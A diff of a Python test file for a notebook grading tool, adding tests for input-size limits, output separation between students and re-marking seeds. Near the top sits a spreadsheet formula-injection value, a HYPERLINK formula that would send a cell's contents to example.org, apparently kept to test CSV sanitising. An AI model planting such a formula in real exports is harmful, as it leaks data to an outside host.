@@ -10,15 +10,23 @@ import re
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import nbformat
 import pytest
 from fault_assignment import ALL, NAME, SOLUTIONS, assignment, cell_of
-from test_mark import make_course, mark
+from test_mark import make_course, mark, small_class
 
+from gatescope.grading.answered import answered_in
 from gatescope.grading.commands import printable
 from gatescope.grading.nbgrader_marking import AnyDepth
-from gatescope.grading.notebook_file import LARGEST, NotebookError, grade_id, source_of
+from gatescope.grading.notebook_file import (
+    LARGEST,
+    MOST_LISTS,
+    NotebookError,
+    grade_id,
+    source_of,
+)
 from gatescope.grading.submitted import read_submission, written_copy
 
 FORMULA = '=HYPERLINK("example.org?"&B2)'
@@ -233,19 +241,21 @@ def test_one_notebook_that_stands_beside_the_class_hands_nothing_of_the_class_to
         nbformat.write(notebook, folder / f"{NAME}.ipynb")
     said = ["--csv", "points/all.csv", "--feedback", "told", "--out", "results"]
     (tmp_path / "points").mkdir()
-    for again in ([], ["--of", "bob"]):
+    # The second time nothing says what the first one wrote.
+    for again in (said, ["--out", "results", "--of", "bob"]):
         done = subprocess.run(
-            [*MARK, f"{NAME}.ipynb", "submitted", *said, *again],
+            [*MARK, f"{NAME}.ipynb", "submitted", *again],
             cwd=tmp_path,
             capture_output=True,
             text=True,
             check=False,
         )
         assert done.returncode == 0, done.stdout + done.stderr
+        assert "is given to no answer" in done.stdout
     [bob] = [json.loads(file.read_text()) for file in (tmp_path / "results").glob("bob*.json")]
     [found] = [each for each in bob["exercises"] if each["exercise"] == "double"]
     seen = found["message"].split("(line")[0].removeprefix("Error: ").split()
-    assert sorted(seen) == ["data.txt", "points"]
+    assert seen == []
 
 
 def test_a_grade_id_that_is_no_text_is_none() -> None:
@@ -260,6 +270,44 @@ def test_a_pipe_is_an_empty_notebook_to_nbgrader(tmp_path: Path) -> None:
     assert json.loads(notebook)["cells"] == []
     assert resources["metadata"]["path"] == str(tmp_path)
     assert resources["metadata"]["name"] == "ps1"
+
+
+def test_more_lists_than_are_read_are_an_empty_notebook_to_nbgrader(tmp_path: Path) -> None:
+    file = tmp_path / "ps1.ipynb"
+    notebook = json.loads(right_one())
+    file.write_text(json.dumps({**notebook, "metadata": {"x": [[]] * (MOST_LISTS + 1)}}))
+    read, _ = AnyDepth().from_filename(str(file))
+    assert json.loads(read)["cells"] == []
+
+
+@pytest.mark.parametrize(
+    "given",
+    [[0] * 60_000, [[0] * 60_000], {"a": [0] * 60_000}, {str(at): [] for at in range(60_000)}],
+    ids=["a list", "a row", "a named row", "many rows"],
+)
+def test_what_is_entered_is_not_looked_through_where_it_is_too_long(given: Any) -> None:
+    def is_looked_through(value: Any) -> bool:
+        sheet = {"answers": {"one": {"given": value}}}
+        return bool(answered_in([{"metadata": {"gatescope": {"answers": {"quiz": sheet}}}}]))
+
+    class Unread(float):
+        def __lt__(self, other: object) -> bool:
+            raise AssertionError("a number of a list that is too long was read")
+
+        __gt__ = __lt__
+
+    text = json.dumps(given).replace("0,", "1.5,")
+    assert not is_looked_through(json.loads(text, parse_float=Unread))
+    assert is_looked_through([[1.5], [None]])
+
+
+def test_a_mark_from_another_seed_stays_where_others_are_marked_again(tmp_path: Path) -> None:
+    small_class(tmp_path, 2)
+    assert mark(tmp_path, "--seed", "5").returncode == 0
+    assert mark(tmp_path, "--of", "s1", "--seed", "77").returncode == 0
+    marks = [json.loads(file.read_text()) for file in (tmp_path / "marks").glob("*.json")]
+    seeds = {each["student"]: {mark["seed"] for mark in each["exercises"]} for each in marks}
+    assert seeds == {"s0": {5}, "s1": {77}}
 
 
 def test_of_large_copies_no_more_are_read_than_one_notebook_may_have(tmp_path: Path) -> None:
